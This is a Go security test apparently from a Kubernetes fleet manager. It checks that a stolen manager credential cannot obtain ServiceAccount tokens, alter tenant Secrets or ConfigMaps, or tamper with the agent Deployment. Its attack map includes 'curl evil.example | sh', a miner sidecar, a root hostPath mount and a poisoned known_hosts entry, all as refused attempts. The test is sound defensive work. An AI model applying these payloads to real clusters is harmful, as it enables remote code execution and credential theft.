package security_test

import (
	"context"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/gitfleet/fleet/agentinstall"
	fleet "github.com/gitfleet/fleet/api/v1alpha1"
	"github.com/gitfleet/fleet/controllers"
	"github.com/gitfleet/fleet/controllers/clusterimport"
	"github.com/gitfleet/fleet/internal/gitfetch"
	"github.com/gitfleet/fleet/test/framework"
)

// saNameAnnotation asks the token controller for a token of the
// ServiceAccount it names, in a Secret of type service-account-token.
const saNameAnnotation = corev1.ServiceAccountNameKey

var _ = Describe("The manager's credential", func() {
	It("17: a stolen manager credential gets no ServiceAccount's token by Secret, rewrites no ConfigMap or Secret it did not make, and cannot change what the local agent runs", func() {
		ctx := env.Ctx
		sys := fleet.DefaultSystemNamespace
		// The foothold: the manager's own ServiceAccount token, as a stolen
		// copy of the manager's credential would be.
		manager, _, err := framework.ServiceAccountClient(ctx, env.Admin, env.Upstream.Config, controllers.Scheme(), sys, "fleet-manager")
		Expect(err).NotTo(HaveOccurred())

		By("victims: a ServiceAccount in kube-system, a tenant's Secret, kube-system's DNS configuration, the install's known hosts")
		victimSA := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "sec-17-powerful"}}
		Expect(env.Admin.Create(ctx, victimSA)).To(Succeed())
		tenantNS := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "sec-17-tenant-"}}
		Expect(env.Admin.Create(ctx, tenantNS)).To(Succeed())
		tenantSecret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS.Name, Name: "deploy-token"},
			Data: map[string][]byte{"password": []byte("tenant's own")}}
		Expect(env.Admin.Create(ctx, tenantSecret)).To(Succeed())
		coreDNS := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "sec-17-coredns"},
			Data: map[string]string{"Corefile": ".:53 { forward . /etc/resolv.conf }"}}
		Expect(env.Admin.Create(ctx, coreDNS)).To(Succeed())

		By("the token path is live: kube-controller-manager fills a token Secret, and RBAC alone would let the manager make one anywhere")
		control := tokenSecret("kube-system", "sec-17-control", victimSA.Name)
		Expect(env.Admin.Create(ctx, control)).To(Succeed())
		Eventually(func() []byte {
			got := &corev1.Secret{}
			Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(control), got)).To(Succeed())
			return got.Data[corev1.ServiceAccountTokenKey]
		}, 30*time.Second, 100*time.Millisecond).ShouldNot(BeEmpty(), "the token controller fills a Secret an admin makes")
		Expect(env.Admin.Delete(ctx, control)).To(Succeed())
		for _, ns := range []string{sys, "kube-system", tenantNS.Name} {
			Expect(rbacAllows(ctx, ns, "secrets", "create")).To(BeTrue(), "RBAC lets the manager create Secrets in %s: only the admission policy refuses", ns)
		}
		waitForWriteScope(ctx, manager)

		By("(a) a service-account-token Secret for fleet-agent (cluster-admin) or a kube-system account is refused")
		// The six Secrets of (a), (b) and (c); none of them may exist at the end.
		attempts := append(make([]*corev1.Secret, 0, 6),
			tokenSecret(sys, "sec-17-agent-token", fleet.AgentName),
			tokenSecret("kube-system", "sec-17-powerful-token", victimSA.Name),
			tokenSecret(sys, fleet.AgentBootstrapSecretName+"-sa", fleet.AgentName),
		)
		for _, s := range attempts {
			err := manager.Create(ctx, s.DeepCopy())
			Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s/%s: %v", s.Namespace, s.Name, err)
			Expect(err).To(MatchError(ContainSubstring("never writes a Secret of type kubernetes.io/service-account-token")))
		}

		By("(b) the annotation on an Opaque Secret is refused, even where the manager writes Secrets")
		annotated := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: sys, Name: fleet.AgentBootstrapSecretName + "-x",
			Annotations: map[string]string{saNameAnnotation: fleet.AgentName}}, Type: corev1.SecretTypeOpaque}
		err = manager.Create(ctx, annotated.DeepCopy())
		Expect(err).To(MatchError(ContainSubstring("never sets a kubernetes.io/service-account.* annotation")))
		attempts = append(attempts, annotated)

		By("(c) Secrets in namespaces the manager did not make are refused: new ones, and rewriting a tenant's, even dressed as token values")
		cloud := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "sec-17-cloud-credentials"},
			Data: map[string][]byte{"key": []byte("attacker's")}}
		planted := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS.Name, Name: "planted"}}
		for _, s := range []*corev1.Secret{cloud, planted} {
			Expect(manager.Create(ctx, s.DeepCopy())).To(MatchError(ContainSubstring("writes Secrets only in")), "%s/%s", s.Namespace, s.Name)
		}
		attempts = append(attempts, cloud, planted)
		rewrite := tenantSecret.DeepCopy()
		rewrite.Labels = map[string]string{fleet.ManagedLabel: "true", fleet.RegistrationTokenLabel: "deploy"}
		rewrite.OwnerReferences = []metav1.OwnerReference{{APIVersion: fleet.GroupVersion.String(), Kind: "ClusterRegistrationToken",
			Name: "deploy", UID: "00000000-0000-0000-0000-000000000000", Controller: ptr.To(true)}}
		rewrite.Data = map[string][]byte{"password": []byte("attacker's")}
		Expect(manager.Patch(ctx, rewrite, client.MergeFrom(tenantSecret))).To(MatchError(ContainSubstring("writes Secrets only in")))

		By("(d) the local agent's Deployment, installed by the manager, cannot be made to run anything else")
		dep := &appsv1.Deployment{}
		Eventually(func() error {
			return env.Admin.Get(ctx, client.ObjectKey{Namespace: sys, Name: fleet.AgentName}, dep)
		}, time.Minute, 200*time.Millisecond).Should(Succeed(), "the manager installs the local agent under the policy")
		upgradeLocalAgent(ctx)
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(dep), dep)).To(Succeed())
		before := dep.Spec.Template.Spec.DeepCopy()
		for what, change := range deploymentAttacks() {
			evil := dep.DeepCopy()
			change(&evil.Spec.Template.Spec)
			err := manager.Patch(ctx, evil, client.MergeFrom(dep))
			Expect(err).To(MatchError(ContainSubstring("writes only its local agent's Deployment")), what)
		}
		// An agent upgrade moves the local agent to another tag of the
		// installed image's repository: a repair meanwhile installs the tag
		// its agent Bundle names, which the policy lets through.
		retag := dep.DeepCopy()
		retag.Spec.Template.Spec.Containers[0].Image = imageRepository(dep.Spec.Template.Spec.Containers[0].Image) + ":v0.0.1-sec17"
		Expect(manager.Patch(ctx, retag, client.MergeFrom(dep))).To(Succeed(), "another tag of the agent's repository")
		back := retag.DeepCopy()
		back.Spec.Template.Spec.Containers[0].Image = dep.Spec.Template.Spec.Containers[0].Image
		Expect(manager.Patch(ctx, back, client.MergeFrom(retag))).To(Succeed(), "and back")
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(dep), dep)).To(Succeed())
		other := dep.DeepCopy()
		other.ObjectMeta = metav1.ObjectMeta{Namespace: sys, Name: "sec-17-evil-agent", Labels: dep.Labels}
		Expect(manager.Create(ctx, other)).To(MatchError(ContainSubstring("writes only its local agent's Deployment")))

		By("(e) ConfigMaps outside its namespaces are refused: kube-system's, the install's known hosts, new ones")
		// The manager may update ConfigMaps (not patch them) in every namespace, by RBAC.
		evilDNS := coreDNS.DeepCopy()
		evilDNS.Data = map[string]string{"Corefile": ".:53 { forward . 203.0.113.1 }"}
		Expect(manager.Update(ctx, evilDNS)).To(MatchError(ContainSubstring("writes ConfigMaps only in")))
		// The install makes it; the suite installs only the manager's rights.
		hosts := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: sys, Name: gitfetch.KnownHostsConfigMap},
			Data: map[string]string{gitfetch.KnownHostsKey: "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"}}
		if err := env.Admin.Create(ctx, hosts); apierrors.IsAlreadyExists(err) {
			Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(hosts), hosts)).To(Succeed())
		} else {
			Expect(err).NotTo(HaveOccurred())
		}
		evilHosts := hosts.DeepCopy()
		evilHosts.Data = map[string]string{gitfetch.KnownHostsKey: "github.com ssh-ed25519 AAAAattacker"}
		Expect(manager.Update(ctx, evilHosts)).To(MatchError(ContainSubstring("writes ConfigMaps only in")))
		newCM := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS.Name, Name: "sec-17-planted"}}
		Expect(manager.Create(ctx, newCM)).To(MatchError(ContainSubstring("writes ConfigMaps only in")))

		By("nothing of the victims changed: no token filled, no Secret made, the Deployment, Secrets and ConfigMaps as they were")
		for _, s := range attempts {
			err := env.Admin.Get(ctx, client.ObjectKeyFromObject(s), &corev1.Secret{})
			Expect(apierrors.IsNotFound(err)).To(BeTrue(), "Secret %s/%s must not exist: %v", s.Namespace, s.Name, err)
		}
		expectNoTokenSecretFor(ctx, sys, fleet.AgentName)
		expectNoTokenSecretFor(ctx, "kube-system", victimSA.Name)
		got := &corev1.Secret{}
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(tenantSecret), got)).To(Succeed())
		Expect(got.Data).To(Equal(tenantSecret.Data))
		Expect(got.Labels).To(BeEmpty())
		Expect(got.OwnerReferences).To(BeEmpty())
		for _, cm := range []*corev1.ConfigMap{coreDNS, hosts} {
			gotCM := &corev1.ConfigMap{}
			Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(cm), gotCM)).To(Succeed())
			Expect(gotCM.Data).To(Equal(cm.Data), "ConfigMap %s/%s", cm.Namespace, cm.Name)
		}
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(newCM), &corev1.ConfigMap{})).To(Satisfy(apierrors.IsNotFound))
		after := &appsv1.Deployment{}
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(dep), after)).To(Succeed())
		expectSameAgentCode(after.Spec.Template.Spec, *before)
		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(other), &appsv1.Deployment{})).To(Satisfy(apierrors.IsNotFound))

		By("where the manager works it still writes: token values in a tenant's namespace, Secrets and ConfigMaps in its cluster namespaces")
		token, _, err := agentinstall.CreateToken(ctx, env.Admin, agentinstall.TokenOptions{Namespace: tenantNS.Name})
		Expect(err).NotTo(HaveOccurred(), "the manager writes a token's values Secret in the token's namespace")
		Expect(token.Status.SecretName).NotTo(BeEmpty())
		clusterNS := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "sec-17-cluster-",
			Labels: map[string]string{fleet.ManagedLabel: "true"}}}
		Expect(manager.Create(ctx, clusterNS)).To(Succeed())
		Expect(manager.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: clusterNS.Name, Name: "credential"}})).To(Succeed())
		Expect(manager.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: clusterNS.Name, Name: "address"}})).To(Succeed())
		Expect(manager.Delete(ctx, clusterNS)).To(Succeed())
	})
})

// tokenSecret asks the token controller for a token of ServiceAccount sa.
func tokenSecret(ns, name, sa string) *corev1.Secret {
	return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name,
		Annotations: map[string]string{saNameAnnotation: sa}}, Type: corev1.SecretTypeServiceAccountToken}
}

// rbacAllows tells whether the manager's ClusterRole and Roles grant verb
// on resource in ns (admission policies aside).
func rbacAllows(ctx context.Context, ns, resource, verb string) bool {
	review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
		User:               "system:serviceaccount:" + fleet.DefaultSystemNamespace + ":fleet-manager",
		Groups:             []string{"system:serviceaccounts", "system:authenticated"},
		ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: ns, Resource: resource, Verb: verb},
	}}
	Expect(env.Admin.Create(ctx, review)).To(Succeed())
	return review.Status.Allowed
}

// waitForWriteScope waits until the API server enforces the write-scope
// policy for the manager (it learns of policies from its informers): a
// harmless ConfigMap in a scratch namespace is refused.
func waitForWriteScope(ctx context.Context, manager client.Client) {
	GinkgoHelper()
	scratch := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "sec-17-scratch-"}}
	Expect(env.Admin.Create(ctx, scratch)).To(Succeed())
	Eventually(func() error {
		probe := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: scratch.Name, Name: "probe"}}
		err := manager.Create(ctx, probe)
		if err == nil {
			Expect(env.Admin.Delete(ctx, probe)).To(Succeed())
		}
		return err
	}, 30*time.Second, 100*time.Millisecond).Should(MatchError(ContainSubstring("writes ConfigMaps only in")))
	Expect(env.Admin.Delete(ctx, scratch)).To(Succeed())
}

// upgradeLocalAgent redeploys the local agent as an admin asks for it: the
// manager writes its ConfigMap, a new bootstrap Secret and the Deployment
// under the policy.
func upgradeLocalAgent(ctx context.Context) {
	GinkgoHelper()
	local := &fleet.Cluster{}
	key := client.ObjectKey{Namespace: fleet.LocalWorkspace, Name: fleet.LocalClusterName}
	Expect(env.Admin.Get(ctx, key, local)).To(Succeed())
	patch := client.MergeFrom(local.DeepCopy())
	local.Spec.RedeployAgentGeneration++
	want := local.Spec.RedeployAgentGeneration
	Expect(env.Admin.Patch(ctx, local, patch)).To(Succeed())
	Eventually(func() *int64 {
		Expect(env.Admin.Get(ctx, key, local)).To(Succeed())
		return local.Status.AgentDeployedGeneration
	}, time.Minute, 200*time.Millisecond).Should(HaveValue(Equal(want)), "the manager redeploys the local agent under the policy")
	dep := &appsv1.Deployment{}
	Expect(env.Admin.Get(ctx, client.ObjectKey{Namespace: fleet.DefaultSystemNamespace, Name: fleet.AgentName}, dep)).To(Succeed())
	Expect(dep.Spec.Template.Annotations).To(HaveKey(clusterimport.RestartedAtAnnotation))
}

// deploymentAttacks are changes that would run other code as fleet-agent,
// or the agent as another account.
func deploymentAttacks() map[string]func(*corev1.PodSpec) {
	return map[string]func(*corev1.PodSpec){
		"another image": func(p *corev1.PodSpec) { p.Containers[0].Image = "evil.example/agent:latest" },
		"a look-alike repository": func(p *corev1.PodSpec) {
			p.Containers[0].Image = imageRepository(p.Containers[0].Image) + "-debug:latest"
		},
		"a command":  func(p *corev1.PodSpec) { p.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil.example | sh"} },
		"other args": func(p *corev1.PodSpec) { p.Containers[0].Args = []string{"--kubeconfig=/tmp/evil"} },
		"another ServiceAccount": func(p *corev1.PodSpec) {
			p.ServiceAccountName = "fleet-manager"
		},
		"an extra container": func(p *corev1.PodSpec) {
			p.Containers = append(p.Containers, corev1.Container{Name: "sidecar", Image: "evil.example/miner:latest"})
		},
		"an init container": func(p *corev1.PodSpec) {
			p.InitContainers = []corev1.Container{{Name: "init", Image: "evil.example/init:latest"}}
		},
		"a hostPath volume": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "host",
				VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		},
		"a postStart hook": func(p *corev1.PodSpec) {
			p.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
				Exec: &corev1.ExecAction{Command: []string{"/fleet-agent-deploy", "evil"}}}}
		},
	}
}

// expectNoTokenSecretFor checks that no Secret of ns holds a token of sa.
func expectNoTokenSecretFor(ctx context.Context, ns, sa string) {
	GinkgoHelper()
	list := &corev1.SecretList{}
	Expect(env.Admin.List(ctx, list, client.InNamespace(ns))).To(Succeed())
	for _, s := range list.Items {
		Expect(s.Type == corev1.SecretTypeServiceAccountToken && s.Annotations[saNameAnnotation] == sa).To(BeFalse(),
			"Secret %s/%s holds a token of %s", s.Namespace, s.Name, sa)
	}
}

// expectSameAgentCode checks that what runs as the local agent is what ran
// before the attacks.
func expectSameAgentCode(got, want corev1.PodSpec) {
	GinkgoHelper()
	Expect(got.ServiceAccountName).To(Equal(want.ServiceAccountName))
	Expect(got.InitContainers).To(BeEmpty())
	Expect(got.Volumes).To(Equal(want.Volumes))
	Expect(got.Containers).To(HaveLen(len(want.Containers)))
	for i, c := range got.Containers {
		Expect(c.Name).To(Equal(want.Containers[i].Name))
		Expect(c.Image).To(Equal(want.Containers[i].Image))
		Expect(c.Command).To(Equal(want.Containers[i].Command))
		Expect(c.Args).To(Equal(want.Containers[i].Args))
		Expect(c.Lifecycle).To(BeNil())
	}
}

// imageRepository is an image reference without its tag or digest.
func imageRepository(image string) string {
	if i := strings.Index(image, "@"); i >= 0 {
		image = image[:i]
	}
	if i := strings.LastIndex(image, ":"); i > strings.LastIndex(image, "/") {
		image = image[:i]
	}
	return image
}
